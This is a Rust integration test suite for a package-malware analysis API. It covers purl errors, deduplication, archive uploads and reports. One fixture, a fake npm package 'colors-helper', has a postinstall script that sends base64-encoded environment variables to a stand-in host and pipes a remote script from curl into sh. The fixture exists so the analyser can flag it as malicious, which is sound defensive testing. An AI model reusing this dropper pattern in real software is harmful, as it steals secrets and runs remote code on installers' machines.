//! Seed 000's package analysis over HTTP: purl submissions and their errors, archive uploads,
//! dedup and `force`, the report route, and a package the registry does not have.

mod common;

use std::io::Write;
use std::time::Duration;

use assay_jobs::{CirclesMode, PackageConfig};
use assay_package::fetch::Fetcher;
use common::{error_of, TestApp};
use reqwest::multipart::{Form, Part};
use reqwest::{Response, StatusCode};
use serde_json::{json, Value};

/// A gzipped tarball of `files` under `package/`, as `npm pack` makes it.
fn npm_tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .unwrap();
    }
    let mut gz = tar.into_inner().unwrap();
    gz.flush().unwrap();
    gz.finish().unwrap()
}

const BENIGN: &[(&str, &str)] = &[
    (
        "package.json",
        r#"{"name": "left-padder", "version": "1.0.0", "main": "index.js",
            "repository": {"type": "git", "url": "git+https://example.com/left-padder.git"}}"#,
    ),
    (
        "index.js",
        "module.exports = function pad(s, n) { return String(s).padStart(n); };\n",
    ),
];

const DROPPER: &[(&str, &str)] = &[
    (
        "package.json",
        r#"{"name": "colors-helper", "version": "1.0.0",
            "scripts": {"postinstall": "node setup.js"}}"#,
    ),
    (
        "setup.js",
        "const { execSync } = require('child_process');\n\
         const https = require('https');\n\
         https.get('http://192.0.2.7:8080/p?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));\n\
         execSync('curl -s http://192.0.2.7/x.sh | sh');\n",
    ),
];

async fn upload(app: &TestApp, key: &str, name: &str, bytes: Vec<u8>, force: bool) -> Response {
    let part = Part::bytes(bytes).file_name(name.to_owned());
    let mut form = Form::new().part("file", part);
    if force {
        form = form.text("force", "true");
    }
    app.post("/api/v1/analyze/upload", key)
        .multipart(form)
        .send()
        .await
        .unwrap()
}

async fn wait_report(app: &TestApp, id: &str, key: &str) -> Value {
    for _ in 0..1500 {
        let r = app
            .get(&format!("/api/v1/analyze/{id}/"), key)
            .send()
            .await
            .unwrap();
        if r.status() == StatusCode::OK {
            return r.json().await.unwrap();
        }
        assert_eq!(r.status(), StatusCode::ACCEPTED);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("analysis {id} never finished");
}

#[tokio::test]
async fn bad_purls_are_refused_with_their_own_codes() {
    let app = TestApp::start(false).await;
    let post = async |body: Value| app.post_json("/api/v1/analyze/", &app.alice, &body).await;
    let message = error_of(
        post(json!({"purl": "lodash@4.17.21"})).await,
        StatusCode::BAD_REQUEST,
        "invalid_purl",
    )
    .await;
    assert!(message.contains("pkg:"), "{message}");
    error_of(
        post(json!({"purl": "pkg:npm/"})).await,
        StatusCode::BAD_REQUEST,
        "invalid_purl",
    )
    .await;
    let message = error_of(
        post(json!({"purl": "pkg:maven/org.apache.commons/commons-lang3@3.12.0"})).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "unsupported_ecosystem",
    )
    .await;
    assert!(message.contains("maven"), "{message}");
    error_of(
        post(json!({})).await,
        StatusCode::BAD_REQUEST,
        "invalid_input",
    )
    .await;
    error_of(
        post(json!({"purl": 7})).await,
        StatusCode::BAD_REQUEST,
        "invalid_input",
    )
    .await;
    error_of(
        post(json!({"purl": "pkg:npm/lodash@4.17.21", "extra": 1})).await,
        StatusCode::BAD_REQUEST,
        "invalid_input",
    )
    .await;
    let r = app
        .client
        .post(format!("{}/api/v1/analyze/", app.base))
        .json(&json!({"purl": "pkg:npm/lodash@4.17.21"}))
        .send()
        .await
        .unwrap();
    error_of(r, StatusCode::UNAUTHORIZED, "unauthorized").await;
    let unknown = app
        .get(
            &format!("/api/v1/analyze/{}/", uuid::Uuid::new_v4()),
            &app.alice,
        )
        .send()
        .await
        .unwrap();
    error_of(unknown, StatusCode::NOT_FOUND, "not_found").await;
}

#[tokio::test]
async fn a_purl_is_queued_with_its_position_and_deduplicated_unless_forced() {
    let app = TestApp::start(false).await;
    let r = app
        .post_json(
            "/api/v1/analyze/",
            &app.alice,
            &json!({"purl": "pkg:pypi/Django@5.0"}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let first: Value = r.json().await.unwrap();
    let id = first["task_id"].as_str().unwrap();
    assert_eq!(first["status"], "queued");
    assert_eq!(first["queue_position"], 0, "nothing is ahead of it");
    assert_eq!(first["purl"], "pkg:pypi/django@5.0");
    assert_eq!(first["status_url"], format!("/api/v1/task/{id}/"));
    assert_eq!(first["result_url"], format!("/api/v1/analyze/{id}/"));

    // The same package spelled differently is the same request.
    let again: Value = app
        .post_json(
            "/api/v1/analyze/",
            &app.alice,
            &json!({"purl": "pkg:pypi/django@5.0"}),
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(again["task_id"], id);
    assert_eq!(again["deduplicated"], true);

    let forced = app
        .post_json(
            "/api/v1/analyze/",
            &app.alice,
            &json!({"purl": "pkg:pypi/django@5.0", "force": true}),
        )
        .await;
    assert_eq!(forced.status(), StatusCode::ACCEPTED);
    let forced: Value = forced.json().await.unwrap();
    assert_ne!(forced["task_id"], id);
    assert_eq!(forced["queue_position"], 1);

    let pending = app
        .get(&format!("/api/v1/analyze/{id}/"), &app.alice)
        .send()
        .await
        .unwrap();
    assert_eq!(pending.status(), StatusCode::ACCEPTED);
    let other = app
        .get(&format!("/api/v1/analyze/{id}/"), &app.bob)
        .send()
        .await
        .unwrap();
    error_of(other, StatusCode::NOT_FOUND, "not_found").await;
}

#[tokio::test]
async fn uploaded_archives_are_analysed_and_judged() {
    let app = TestApp::start(true).await;
    let r = upload(
        &app,
        &app.alice,
        "left-padder-1.0.0.tgz",
        npm_tarball(BENIGN),
        false,
    )
    .await;
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let id = r.json::<Value>().await.unwrap()["task_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let benign = wait_report(&app, &id, &app.alice).await;
    assert_eq!(benign["status"], "done", "{benign}");
    let report = &benign["report"];
    assert_eq!(report["verdict"], "benign", "{report}");
    assert_eq!(report["Package"]["Ecosystem"], "npm");
    assert_eq!(report["schema_version"], 1);

    // The same bytes again: the same analysis, unless forced.
    let again = upload(
        &app,
        &app.alice,
        "left-padder-1.0.0.tgz",
        npm_tarball(BENIGN),
        false,
    )
    .await;
    assert_eq!(again.status(), StatusCode::OK);
    assert_eq!(again.json::<Value>().await.unwrap()["task_id"], id.as_str());
    let forced = upload(
        &app,
        &app.alice,
        "left-padder-1.0.0.tgz",
        npm_tarball(BENIGN),
        true,
    )
    .await;
    assert_eq!(forced.status(), StatusCode::ACCEPTED);

    let r = upload(
        &app,
        &app.alice,
        "colors-helper-1.0.0.tgz",
        npm_tarball(DROPPER),
        false,
    )
    .await;
    let id = r.json::<Value>().await.unwrap()["task_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let dropper = wait_report(&app, &id, &app.alice).await;
    let report = &dropper["report"];
    assert_eq!(report["verdict"], "malicious", "{report}");
    let findings = report["findings"].as_array().unwrap();
    assert!(findings
        .iter()
        .any(|f| f["file"] == "package/setup.js" && f["line"].is_u64()));

    // Also through the generic task route.
    let task = app.wait_finished(&id, &app.alice).await;
    assert_eq!(task["kind"], "package");
    assert_eq!(task["result"]["verdict"], "malicious");
}

#[tokio::test]
async fn uploads_that_are_not_archives_are_refused_and_not_kept() {
    let app = TestApp::start(false).await;
    let r = upload(&app, &app.alice, "notes.txt", b"hello".to_vec(), false).await;
    error_of(r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_archive").await;
    let r = app
        .post("/api/v1/analyze/upload", &app.alice)
        .multipart(Form::new().text("ecosystem", "npm"))
        .send()
        .await
        .unwrap();
    error_of(r, StatusCode::BAD_REQUEST, "missing_file").await;
    let part = Part::bytes(npm_tarball(BENIGN)).file_name("a.tgz");
    let r = app
        .post("/api/v1/analyze/upload", &app.alice)
        .multipart(Form::new().part("file", part).text("ecosystem", "cargo"))
        .send()
        .await
        .unwrap();
    error_of(r, StatusCode::UNPROCESSABLE_ENTITY, "unsupported_ecosystem").await;
    let r = upload(
        &app,
        &app.alice,
        "big.tgz",
        vec![0x1f; (1 << 20) + 1],
        false,
    )
    .await;
    error_of(r, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large").await;
    assert_eq!(app.stored_blobs(), 0);
}

/// A registry that has no packages at all.
async fn empty_registry() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}/", listener.local_addr().unwrap());
    let app = axum::Router::new().fallback(|| async {
        (
            axum::http::StatusCode::NOT_FOUND,
            axum::Json(json!({"error": "Not found"})),
        )
    });
    tokio::spawn(async move { axum::serve(listener, app).await });
    base
}

#[tokio::test]
async fn a_package_the_registry_does_not_have_fails_with_package_not_found() {
    if std::process::Command::new("npm")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("npm is not installed; skipping");
        return;
    }
    let registry = empty_registry().await;
    let package = PackageConfig {
        fetcher: Fetcher {
            npm_registry: Some(registry),
            ..PackageConfig::default().fetcher
        },
        ..PackageConfig::default()
    };
    let app = TestApp::start_full(true, CirclesMode::Builtin, package).await;
    let r = app
        .post_json(
            "/api/v1/analyze/",
            &app.alice,
            &json!({"purl": "pkg:npm/no-such-package-assay-test@1.0.0"}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let id = r.json::<Value>().await.unwrap()["task_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let report = wait_report(&app, &id, &app.alice).await;
    assert_eq!(report["status"], "failed", "{report}");
    let message = report["message"].as_str().unwrap();
    assert!(message.starts_with("package not found"), "{message}");
    let task = app
        .get_json(&format!("/api/v1/task/{id}/"), &app.alice)
        .await;
    assert_eq!(task["attempts"], 1, "not found is not retried: {task}");
}
